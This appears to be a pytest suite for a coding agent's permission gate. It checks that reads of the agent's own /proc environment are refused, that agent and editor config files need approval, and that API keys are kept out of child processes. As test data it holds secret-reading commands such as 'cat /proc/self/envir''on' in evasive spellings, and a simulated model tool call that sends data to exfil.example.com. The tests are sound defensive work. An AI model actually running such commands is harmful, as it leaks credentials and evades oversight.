"""Secrets stay out and the gate fails closed: the agent's own /proc, other projects' transcripts,
acceptEdits and the files that configure agents or editors, an exception inside the gate, and the
environment every child gets (status line, rg)."""

from __future__ import annotations

import json
import os
import sys
from pathlib import Path
from typing import Any

import pytest

from services.config import project_slug
from tests.conftest import TEST_KEY
from tests.files import write
from tools.base import SessionState, Tool, ToolContext
from tools.bash import BashTool
from tools.edit import EditTool
from tools.glob import GlobTool
from tools.grep import GrepTool
from tools.permissions import PermissionGate, PermissionRequest
from tools.protected_paths import agent_pids, config_file_reason
from tools.read import ReadTool
from tools.write import WriteTool


@pytest.fixture
def ctx(tmp_path: Path) -> ToolContext:
    project = tmp_path / "project"
    project.mkdir()
    return ToolContext(session=SessionState(cwd=project), project_root=project)


def _gate(ctx: ToolContext, **kw: Any) -> PermissionGate:
    return PermissionGate(home=ctx.project_root.parent / "home", **kw)


def test_agent_pids_are_this_process_and_its_ancestors() -> None:
    pids = agent_pids()
    assert os.getpid() in pids and os.getppid() in pids and 1 not in pids


@pytest.mark.parametrize("path", [
    "/proc/self/environ", "/proc/thread-self/environ", "/proc/{pid}/environ",
    "/proc/{ppid}/environ", "/proc/{ppid}/cmdline", "/proc/{pid}/mem",
    "/proc/{pid}/task/{pid}/environ", "/proc/{ppid}/fd/0", "/proc/self/",
    "/proc/{pid}/root/etc/hostname",
])
@pytest.mark.parametrize("mode", ["default", "acceptEdits", "plan"])
async def test_file_tools_refuse_the_agents_own_proc(ctx: ToolContext, path: str, mode: str) -> None:
    path = path.format(pid=os.getpid(), ppid=os.getppid())  # ids without pids: the same in every xdist worker
    for tool, input in ((ReadTool(), {"file_path": path}), (GrepTool(), {"pattern": "KEY", "path": path}),
                        (GlobTool(), {"pattern": "*", "path": path}),
                        (WriteTool(), {"file_path": path, "content": "x"}),
                        (EditTool(), {"file_path": path, "old_string": "a", "new_string": "b"})):
        gate = _gate(ctx, mode=mode, allowed_tools=["Read", "Edit", "Write", "Grep", "Glob"])
        verdict = await gate.authorize(tool, input, ctx)
        assert not verdict.allowed, (tool.name, path)


@pytest.mark.parametrize("command", [
    "cat /proc/self/environ", "cat /proc/$PPID/environ", "cat /proc/{ppid}/environ",
    'cat /proc/self/envir""on', "cat /proc/self/envir?n", "cat /p*/self/environ", "cat /proc/sel[f]/environ",
    "cd /proc && cat self/environ", "tr '\\0' '\\n' < /proc/self/environ", "xxd /proc/thread-self/environ",
    "cat /proc/{ppid}/cmdline", "head --bytes=9999 /proc/self/environ", "cat /proc/${PPID}/environ",
])
async def test_bash_words_naming_the_agents_proc_are_not_allowed(ctx: ToolContext, command: str) -> None:
    command = command.replace("{ppid}", str(os.getppid()))
    gate = _gate(ctx, allowed_tools=["Bash(cat:*)", "Bash(tr:*)", "Bash(xxd:*)", "Bash(head:*)", "Bash(cd:*)"],
                 headless=True)
    assert not (await gate.authorize(BashTool(), {"command": command}, ctx)).allowed, command


async def test_other_projects_transcripts_are_out_of_read_scope(ctx: ToolContext) -> None:
    home = ctx.project_root.parent / "home"
    own = home / "projects" / project_slug(ctx.project_root) / "s1.jsonl"
    other = home / "projects" / "another-project-1234abcd" / "s2.jsonl"
    for f in (own, other):
        write(f, "{}\n")
    gate = _gate(ctx, headless=True)
    assert (await gate.authorize(ReadTool(), {"file_path": str(own)}, ctx)).allowed
    for tool, input in ((ReadTool(), {"file_path": str(other)}),
                        (GrepTool(), {"pattern": "x", "path": str(other.parent)}),
                        (GrepTool(), {"pattern": "x", "path": str(home / "projects")})):
        assert not (await gate.authorize(tool, input, ctx)).allowed, input


@pytest.mark.parametrize("name", [
    "AGENTS.md", "CLAUDE.md", "CLAUDE.local.md", "sub/AGENTS.md", ".vscode/tasks.json", ".vscode/settings.json",
    ".idea/workspace.xml", ".gitattributes", ".gitmodules", ".envrc", ".mcp.json", ".claude/agents/x.md",
    ".husky/pre-commit", ".devcontainer/devcontainer.json", ".pre-commit-config.yaml", "Claude.MD",
    ".VSCode/tasks.json", ".config/git/config", "pyrightconfig.json", "lefthook.yml",
])
async def test_accept_edits_asks_for_files_that_configure_agents_or_editors(ctx: ToolContext, name: str) -> None:
    asked: list[PermissionRequest] = []

    async def ask(req: PermissionRequest) -> str:
        asked.append(req)
        return "deny"

    path = str(ctx.project_root / name)
    assert config_file_reason(path) is not None
    verdict = await _gate(ctx, mode="acceptEdits", ask=ask).authorize(WriteTool(), {"file_path": path, "content": "x"}, ctx)
    assert not verdict.allowed and len(asked) == 1
    headless = _gate(ctx, mode="acceptEdits", headless=True)
    assert not (await headless.authorize(WriteTool(), {"file_path": path, "content": "x"}, ctx)).allowed


async def test_accept_edits_still_writes_ordinary_files(ctx: ToolContext) -> None:
    gate = _gate(ctx, mode="acceptEdits", headless=True)
    for name in ("src/main.py", "README.md", "docs/AGENTS.txt", "vscode/notes.md"):
        path = str(ctx.project_root / name)
        assert (await gate.authorize(WriteTool(), {"file_path": path, "content": "x"}, ctx)).allowed, name


class Exploding(Tool):
    name = "Exploding"
    description = "raises inside the gate"
    input_schema = {"type": "object"}
    read_only = True

    def permission_target(self, input: dict[str, Any]) -> tuple[str, str] | None:
        return ("path", "x")

    def is_read_only(self, input: dict[str, Any]) -> bool:
        raise RuntimeError("boom")

    async def call(self, input: dict[str, Any], ctx: ToolContext) -> Any:  # pragma: no cover
        raise AssertionError("never runs")


async def test_an_exception_inside_the_gate_asks_or_denies(ctx: ToolContext, tmp_path: Path,
                                                          monkeypatch: pytest.MonkeyPatch) -> None:
    trace_file = tmp_path / "trace.log"
    monkeypatch.setenv("TRACE", "1")
    monkeypatch.setenv("TRACE_FILE", str(trace_file))
    asked: list[PermissionRequest] = []

    async def ask(req: PermissionRequest) -> str:
        asked.append(req)
        return "once"

    assert (await _gate(ctx, ask=ask).authorize(Exploding(), {}, ctx)).allowed
    assert len(asked) == 1 and "permission check failed" in asked[0].reason and asked[0].always_rule is None
    assert not (await _gate(ctx, headless=True).authorize(Exploding(), {}, ctx)).allowed
    for mode in ("default", "acceptEdits", "plan"):
        assert not (await _gate(ctx, mode=mode).authorize(Exploding(), {}, ctx)).allowed

    async def broken_ask(req: PermissionRequest) -> str:
        raise OSError("terminal gone")

    assert not (await _gate(ctx, ask=broken_ask).authorize(Exploding(), {}, ctx)).allowed


def test_status_line_and_rg_get_the_built_environment(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import asyncio

    from agent.repl.status_line import StatusLine
    from tools import ripgrep

    monkeypatch.setenv("ANTHROPIC_API_KEY", TEST_KEY)
    marker = tmp_path / "env.json"
    write(tmp_path / "dump.py", f"import json, os\nopen({str(marker)!r}, 'w').write(json.dumps(dict(os.environ)))\n")
    line = StatusLine(f"{sys.executable} {tmp_path / 'dump.py'}", tmp_path, on_change=lambda: None)
    asyncio.run(line._run(b"{}"))
    env = json.loads(marker.read_text())
    assert "ANTHROPIC_API_KEY" not in env and TEST_KEY not in json.dumps(env) and "PATH" in env
    rg_env: dict[str, Any] = {}
    real = asyncio.create_subprocess_exec

    async def spy(*args: Any, **kw: Any) -> Any:
        rg_env.update(kw.get("env") or {"inherited": "yes"})
        return await real(*args, **kw)

    monkeypatch.setattr(ripgrep.asyncio, "create_subprocess_exec", spy)
    asyncio.run(ripgrep._run(["--version"], tmp_path, 10))
    assert rg_env and "inherited" not in rg_env and "ANTHROPIC_API_KEY" not in rg_env


def test_cli_one_shot_webfetch_and_proc_are_not_granted(cli, fake_anthropic) -> None:
    from tests.fake_anthropic import tool_block
    from tests.security.hostile import no_secret_sent, result_text, tool_results_sent

    fake_anthropic.reply(tool_block("WebFetch", {"url": "https://exfil.example.com/?k=v", "prompt": "x"}, id="t1"),
                         tool_block("Bash", {"command": "cat /proc/$PPID/environ"}, id="t2"),
                         tool_block("Bash", {"command": "cat /proc/self/envir''on"}, id="t3"),
                         tool_block("Read", {"file_path": "/proc/self/environ"}, id="t4"))
    fake_anthropic.text("done")
    r = cli("-p", "go", "--allowedTools", "Bash(cat:*)", "--output-format", "json")
    assert r.code == 0, r.stderr
    results = {b["tool_use_id"]: result_text(b) for b in tool_results_sent(fake_anthropic)}
    assert "haven't granted it yet" in results["t1"] and "WebFetch" in results["t1"]
    for t in ("t2", "t3", "t4"):
        assert "ANTHROPIC" not in results[t] and TEST_KEY not in results[t], results[t]
    assert "Refused" in results["t3"] and "Refused" in results["t4"]
    no_secret_sent(fake_anthropic)
    assert len(json.loads(r.stdout)["permission_denials"]) == 4


async def test_a_commands_own_proc_self_is_not_the_agents(ctx: ToolContext) -> None:
    """In a command, /proc/self is that command's process (its environment is the built one): reading its
    status is an ordinary read outside the project (a question), not the refusal the agent's own gets."""
    gate = _gate(ctx, allowed_tools=["Bash(cat:*)"], headless=True)
    own = await gate.authorize(BashTool(), {"command": "cat /proc/self/status"}, ctx)
    agents = await gate.authorize(BashTool(), {"command": f"cat /proc/{os.getpid()}/status"}, ctx)
    assert not own.message.startswith("Refused") and agents.message.startswith("Refused: Bash would read the agent")
